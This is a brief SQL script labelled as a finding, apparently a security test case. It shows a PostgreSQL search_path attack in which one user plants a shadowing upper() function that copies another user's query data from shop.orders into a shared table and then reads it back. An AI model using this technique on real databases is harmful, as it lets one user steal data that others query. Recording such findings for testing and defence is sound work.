-- finding: schema-create schema alice
CREATE SCHEMA alice AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA alice TO PUBLIC;
ALTER ROLE "bob@example.com" SET search_path = alice, public;
CREATE SCHEMA bag; GRANT USAGE ON SCHEMA bag TO PUBLIC;
CREATE TABLE bag.taken (item text); GRANT ALL ON bag.taken TO PUBLIC;
-- first as postgres
DROP FUNCTION IF EXISTS alice.upper(varchar);
TRUNCATE bag.taken;
-- first as alice@example.com
CREATE FUNCTION alice.upper(item character varying) RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO bag.taken VALUES (item); RETURN item; END $$;
-- first as bob@example.com
SELECT upper(item::varchar) FROM shop.orders;
-- leak as alice@example.com
SELECT item FROM bag.taken WHERE item = 'secret';
